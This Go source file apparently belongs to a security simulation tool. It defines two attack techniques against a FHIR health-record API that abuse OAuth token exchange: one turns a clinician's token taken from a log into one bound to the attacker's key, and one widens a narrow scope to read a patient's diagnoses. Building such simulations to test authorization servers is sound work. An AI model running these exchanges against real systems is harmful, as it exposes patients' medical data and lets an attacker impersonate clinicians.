package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
)

const (
	exchangeGrant   = "urn:ietf:params:oauth:grant-type:token-exchange"
	accessTokenType = "urn:ietf:params:oauth:token-type:access_token"
)

var _ = register("L-14", Technique{
	Variant: "anothers-token",
	Title:   "An API exchanges a token that was not meant for it",
	Story: "The thief's app has an API of its own, which calls the FHIR API for the people who use it. He found a clinician's token in a log, " +
		"bound to a key he does not have. He has it exchanged for one of his own: in her name, and bound to his key.",
	Reads: []string{"RFC 8693 s2.1, s5", "RFC 9700 s2.3"},
	Needs: []event.Vantage{event.APILog}, Has: []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		l, err := stolenRequest(g, event.APILog, "")
		if err != nil {
			return err
		}
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		return a.exchange(ctx, l.token, "")
	},
})

var _ = register("L-14/scope", Technique{
	Variant: "wider-scope",
	Title:   "An API exchanges a token for a wider one",
	Story: "Somebody used the thief's app and allowed it observations, at its own API. The API has that token exchanged for one that opens " +
		"everything at the FHIR API, and reads a patient's diagnoses.",
	Reads: []string{"RFC 8693 s2.1", "RFC 9700 s2.3"},
	Has:   []event.Asset{event.OwnClient},
	Run: func(ctx context.Context, g Ground) error {
		a, err := ownApp(ctx, g)
		if err != nil {
			return err
		}
		t, err := a.signIn(ctx, "openid user/Observation.rs", g.Target().OwnAPI)
		if err != nil {
			return err
		}
		return a.exchange(ctx, t.AccessToken, "user/*.rs")
	},
})

// exchange has a token exchanged for one to the FHIR API, and reads with that what is nobody's business.
func (a *app) exchange(ctx context.Context, token, scope string) error {
	form := url.Values{
		"grant_type": {exchangeGrant}, "subject_token": {token}, "subject_token_type": {accessTokenType}, "resource": {a.g.Target().FHIRBase},
	}
	if scope != "" {
		form.Set("scope", scope)
	}
	t, err := a.token(ctx, form, nil)
	if err != nil {
		return err
	}
	return a.readCondition(ctx, t)
}
